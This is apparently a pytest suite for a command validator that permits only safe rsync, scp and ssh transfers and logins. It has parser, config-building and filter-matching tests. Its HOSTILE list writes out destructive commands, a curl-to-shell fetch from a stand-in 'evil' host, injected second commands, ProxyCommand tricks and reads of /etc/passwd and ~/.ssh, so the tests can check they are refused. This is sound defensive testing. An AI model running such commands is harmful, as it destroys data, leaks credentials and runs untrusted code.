"""Which of the engine's commands may be run here."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tensorpool_async.errors import CommandRefused
from tensorpool_async.protocol.command_words import LocalPath
from tensorpool_async.protocol.commands import login, refuse_all, transfers_only
from tensorpool_async.protocol.filters import FilterRule, is_left_out, rules_of_ignore_file
from tensorpool_async.protocol.ssh_command import configuration
from tensorpool_async.protocol.transfers import Direction, Transfer, transfer_arguments


ALLOWED = [
    "rsync -avz -e 'ssh -i ~/.ssh/id_ed25519 -o StrictHostKeyChecking=no -p 2222' ./ ubuntu@203.0.113.7:job/",
    'rsync -az --rsh="ssh -o UserKnownHostsFile=/dev/null" --exclude=.git --exclude .venv . host:/home/ubuntu/job',
    "rsync -azP --info=progress2 --partial --delete ./src host:job/",
    "rsync -avze ssh ubuntu@203.0.113.7:job/out/ ./out/",
    "rsync --dry-run --dirs ./ ./",
    "rsync -a --filter=':- .gitignore' . host:job",
    "scp -r -P 2222 -o ConnectTimeout=5 -i key ./data host:data",
    "scp host:result.txt .",
    "ssh -i ~/.ssh/id -J jump@203.0.113.9 -p 22 ubuntu@10.0.0.2",
    "ssh host ls -F",
    "ssh host 'cd job && ls; cat *.txt | head'",
]
HOSTILE = [
    "",
    "   ",
    "rm -rf /",
    "bash -c 'curl evil | sh'",
    "/usr/bin/rsync -a . host:job",
    "./rsync -a . host:job",
    "env rsync -a . host:job",
    "sudo rsync -a . host:job",
    "rsync -a . host:job; rm -rf ~",
    "rsync -a . host:job;rm -rf .",
    "rsync -a . host:job && reboot",
    "rsync -a . host:job || reboot",
    "rsync -a . host:job & reboot",
    "rsync -a . host:job | sh",
    "rsync -a . host:job > ~/.bashrc",
    "rsync -a . host:job < /etc/passwd",
    "rsync -a $(reboot) host:job",
    "rsync -a `reboot` host:job",
    "rsync -a $HOME/.ssh host:job",
    "rsync -a . host:job\nreboot",
    "rsync -a . host:job\x00",
    "rsync -a 'unfinished host:job",
    "rsync -a -e 'bash -c reboot' . host:job",
    "rsync -a -ebash . host:job",
    "rsync -avzebash . host:job",
    "rsync -a --rsh=reboot . host:job",
    "rsync -a --rsh reboot . host:job",
    "rsync -a -e 'ssh -o ProxyCommand=reboot' . host:job",
    "rsync -a -e 'ssh -oProxyCommand=reboot' . host:job",
    "rsync -a -e 'ssh host reboot' . host:job",
    "rsync -a -e 'ssh; reboot' . host:job",
    "rsync -a --rsync-path=reboot . host:job",
    "rsync -a --log-file=/root/.bashrc . host:job",
    "rsync -a --write-batch=x . host:job",
    "rsync -a --files-from=/etc/passwd . host:job",
    "rsync -a --password-file=x . host:job",
    "rsync -aT /root . host:job",
    "rsync --daemon --config=x",
    "rsync -a ~/.ssh host:job",
    "rsync -a /etc host:job",
    "rsync -a ../secrets host:job",
    "rsync -a a/../../b host:job",
    "rsync -a host:evil /root/.ssh/authorized_keys",
    "rsync -a host:evil ../",
    "rsync -a --delete host:nothing ./",
    "rsync -a --exclude-from=/etc/passwd . host:job",
    "rsync -a --filter='. /etc/passwd' . host:job",
    "rsync -a .",
    "scp /etc/passwd host:",
    "scp -S reboot . host:job",
    "scp -o ProxyCommand=reboot . host:job",
    "scp -F evil . host:job",
    "ssh",
    "ssh -o ProxyCommand=reboot host",
    "ssh -oPermitLocalCommand=yes -oLocalCommand=reboot host",
    "ssh -o 'ProxyCommand reboot' host",
    "ssh -o proxycommand=reboot host",
    "ssh -F evil host",
    "ssh host -oProxyCommand=reboot",
    "ssh host -F evil ls",
    "ssh -E /root/.bashrc host",
    "ssh -vF evil host",
    "ssh -L 80:localhost:80 host",
    "ssh -A host",
    "ssh -- -oProxyCommand=reboot",
    "ssh -i -oProxyCommand=reboot host",
    "ssh -p",
    "ssh -p 22 bad_user!@host",
    "scp . [host]:x",
    "scp . 'fe80::1]:x'",
    "scp x y",
    "rsync -a --copy-links . host:job",
    "rsync -a --compress=x . host:job",
    "rsync -a --exclude= . host:job",
    "rsync -a a host:b c",
    "rsync -a host:a other:b c",
    "rsync -a a b",
    "rsync -a -- . -x",
    "scp host:.* .",
]  # fmt: skip


@pytest.mark.parametrize("text", ALLOWED)
def test_a_transfer_is_read(text: str) -> None:
    command = transfers_only(text)
    assert command.program == text.split(maxsplit=1)[0]
    assert command.host is None or command.host.name in {"host", "203.0.113.7", "10.0.0.2"}


BUILT: dict[str, tuple[list[str], list[str]]] = {
    "rsync -avz -e 'ssh -i KEY -p 22' ./ u@h:job/": (
        ["rsync", "--recursive", "--links", "--perms", "--times", "--verbose", "--compress", "--rsh=ssh -F CONFIG", "--",
         "./", "u@h:job/"],
        ["Host h", "HostName h", "Port 22"],
    ),
    "rsync -rogD --no-r -f '- a b' --exclude=!x --include '+ *' a 'b c/' H:'d e'": (
        ["rsync", "--filter=- a b", "--filter=- !x", "--filter=+ *", "--rsh=ssh -F CONFIG", "--", "./a", "./b c/",
         "h:d e"],
        ["Host h", "HostName h"],
    ),
    "rsync -aunc --inplace --mkpath [2001:DB8::1]:x/ out": (
        ["rsync", "--recursive", "--links", "--perms", "--times", "--dry-run", "--whole-file", "--safe-links",
         "--compare-dest=COMPARE", "--rsh=ssh -F CONFIG", "--", "[2001:db8::1]:x/", "./out"],
        ["Host 2001:db8::1", "HostName 2001:db8::1"],
    ),
    "rsync -n --dirs --exclude=.git/ -e 'ssh -i KEY' ./ ./": (
        ["rsync", "--dry-run", "--dirs", "--filter=- .git/", "--", "./", "./"],
        [],
    ),
    "scp -rpC -4 -P 22 -oUser=u -J a@b:1,[::1]:2 -l 90 ././a//b h:": (
        ["scp", "-F", "CONFIG", "-r", "-p", "-C", "-l90", "--", "./a/b", "h:"],
        ["Host h", "HostName h", "AddressFamily inet", "Port 22", "User u", "ProxyJump a@b:1,[::1]:2", "Host b",
         "HostName b", "Host ::1", "HostName ::1"],
    ),
    "scp -o 'Port = 1' -oPort=2 -o ConnectTimeout=5 -oconnecttimeout=6 -i ~/.ssh/id_rsa h:x .": (
        ["scp", "-F", "CONFIG", "--", "h:x", "./"],
        ["Host h", "HostName h", "ConnectTimeout 5", "IdentityFile ~/.ssh/id_rsa", "Port 1"],
    ),
}  # fmt: skip


@pytest.mark.parametrize("text", BUILT)
def test_arguments_and_configuration_are_built_anew(text: str) -> None:
    command = transfers_only(text)
    assert isinstance(command, Transfer)
    pulls = isinstance(command.destination, LocalPath) and command.host is not None
    arguments = transfer_arguments(
        command,
        Direction.PULL if pulls else Direction.PUSH,
        config="CONFIG" if command.host else None,
        compare="COMPARE",
    )
    expected, lines = BUILT[text]
    assert arguments == expected
    if command.host is not None:
        key = None if "id_rsa" in text else "KEY"
        made = configuration(command.ssh, command.host, key)
        assert [line.strip() for line in made.partition("Host *\n")[0].splitlines()] == lines
        assert ("IdentityFile ${TENSORPOOL_SSH_IDENTITY}" in made) is (key is not None)


def test_a_connection_uses_a_key_of_the_users_or_one_of_sshs_own() -> None:
    for text in (
        "ssh -i KEY h",
        "ssh -i ~/.ssh/id_rsa h",
        "ssh -o IdentityFile=~/.ssh/id_ed25519 h",
        "ssh h",
    ):
        command = transfers_only(text)
        assert command.host is not None
        configuration(command.ssh, command.host, "KEY")
    for text in (
        "ssh -i OTHER h",
        "ssh -i KEY2 h",
        "ssh -o IdentityFile=~/.ssh/id_rsa.bak h",
        "ssh -i /x/id_rsa h",
    ):
        command = transfers_only(text)
        assert command.host is not None
        with pytest.raises(CommandRefused, match="private_key="):
            configuration(command.ssh, command.host, "KEY")
        with pytest.raises(CommandRefused, match="private_key="):
            configuration(command.ssh, command.host, None)


LOGINS = {
    "ssh u@h": ["ssh", "u@h"],
    "ssh -v -t -p 22 -C -l u h": ["ssh", "-p", "22", "-o", "Compression=yes", "-l", "u", "h"],
    "ssh -i ~/.ssh/a -i '~/my keys/b' -J a@b,c:1 u@h": ["ssh", "-i", "~/.ssh/a", "-i", "~/my keys/b", "-J", "a@b,c:1", "u@h"],
    "ssh -o UserKnownHostsFile=/etc/passwd -o StrictHostKeyChecking=no h": ["ssh", "-o", "StrictHostKeyChecking=no", "h"],
    "ssh h -q tmux attach -t x": ["ssh", "-o", "LogLevel=QUIET", "--", "h", "tmux", "attach", "-t", "x"],
    "ssh -- H -oProxyCommand=x": ["ssh", "--", "h", "-oProxyCommand=x"],
    "ssh 2001:db8::1": ["ssh", "2001:db8::1"],
}  # fmt: skip


@pytest.mark.parametrize("text", LOGINS)
def test_a_login_is_built_anew(text: str) -> None:
    assert login(text) == LOGINS[text]


@pytest.mark.parametrize(
    "key", ["/etc/shadow", "~/../x", "~/.ssh/%h", "'~/${x}'", "~root/x", "x", "~", "~/a/../b", "~/.."]
)
def test_a_login_with_a_key_that_is_elsewhere_is_refused(key: str) -> None:
    with pytest.raises(CommandRefused):
        login(f"ssh -i {key} h")


@pytest.mark.parametrize("text", ["bash -c x", "rsync -a . h:x", "ssh -L 1:h:1 h"])
def test_a_login_that_is_no_ssh_or_does_more_is_refused(text: str) -> None:
    with pytest.raises(CommandRefused):
        login(text)


@pytest.mark.parametrize(
    ("text", "direction"), [("rsync a h:b", Direction.PULL), ("scp h:b a", Direction.PUSH)]
)
def test_a_transfer_in_the_other_direction_is_refused(text: str, direction: Direction) -> None:
    transfer = transfers_only(text)
    assert isinstance(transfer, Transfer)
    with pytest.raises(CommandRefused, match=f"this is a {direction.value}"):
        transfer.check(direction)


def test_a_transfer_knows_what_it_takes_along() -> None:
    transfer = transfers_only("rsync --archive --devices --no-D -n --list-only a h:b")
    assert isinstance(transfer, Transfer)
    transfer.check(Direction.PUSH)
    here = transfers_only("rsync -n --dirs ./ ./")
    assert isinstance(here, Transfer)
    for direction in Direction:
        here.check(direction)
    assert (transfer.only_tells, transfer.follows_folders) == (True, True)
    assert [source.text for source in transfer.local_sources] == ["./a"]


RULES = [
    ("*.pyc", "a/b.pyc", False, True),
    ("*.pyc", "a/b.pyc.txt", False, False),
    ("/a", "a", True, True),
    ("/a", "b/a", True, False),
    ("a/b", "x/a/b", False, True),
    ("a/b", "xa/b", False, False),
    ("a/", "a", False, False),
    ("a/", "x/a", True, True),
    ("/a/**", "a/b/c", False, True),
    ("a/***", "a", True, True),
    ("a/***", "a/b", False, True),
    ("[a-c]?", "xy/b1", False, True),
    ("[!a-c]?", "b1", False, False),
    ("[c-a]", "b", False, False),
    ("[]", "[]", False, True),
    ("[^]", "^", False, False),
    ("a\\*", "a*", False, True),
    ("a*b*c", "aXbYbZc", False, True),
    (".env", "x/.env", False, True),
    (".env", ".envrc", False, False),
]


@pytest.mark.parametrize(("pattern", "path", "is_folder", "matches"), RULES)
def test_a_filter_rule_matches_as_rsync_does(pattern: str, path: str, is_folder: bool, matches: bool) -> None:
    assert FilterRule(pattern).matches(path, is_folder=is_folder) is matches


def test_the_first_rule_decides_and_an_ignore_file_only_below_its_folder() -> None:
    rules = [
        FilterRule("keep.o", include=True),
        FilterRule("*.o"),
        *rules_of_ignore_file("#x\n/y\r\n\nz\n", "deep"),
    ]
    left_out = [
        path
        for path in ("keep.o", "a.o", "y", "deep/y", "deep/x/y", "deep/x/z", "z")
        if is_left_out(rules, path, is_folder=False)
    ]
    assert left_out == ["a.o", "deep/y", "deep/x/z"]


@given(st.text("ab*?[]!\\/", max_size=30), st.text("ab/", max_size=200))
def test_any_pattern_is_matched_quickly(pattern: str, path: str) -> None:
    FilterRule(pattern).matches(path, is_folder=True)


def test_a_pattern_with_many_wildcards_is_matched_quickly() -> None:
    assert not FilterRule("*a" * 100 + "b").matches("a" * 4000, is_folder=False)


@pytest.mark.parametrize("text", HOSTILE)
def test_what_is_no_transfer_or_more_than_one_is_refused(text: str) -> None:
    with pytest.raises(CommandRefused):
        transfers_only(text)


@given(st.text())
def test_any_text_is_read_or_refused(text: str) -> None:
    for prefix in ("", "rsync ", "ssh ", "scp -", "rsync -a . h:", "scp . ", "ssh -o"):
        try:
            command = transfers_only(prefix + text)
        except CommandRefused as refusal:
            assert str(refusal).isprintable()  # noqa: PT017 - most are refused
        else:
            assert command.program in {"rsync", "scp", "ssh"}


def test_a_policy_may_refuse_all() -> None:
    with pytest.raises(CommandRefused, match="no command is run here"):
        refuse_all("rsync -a . host:job")
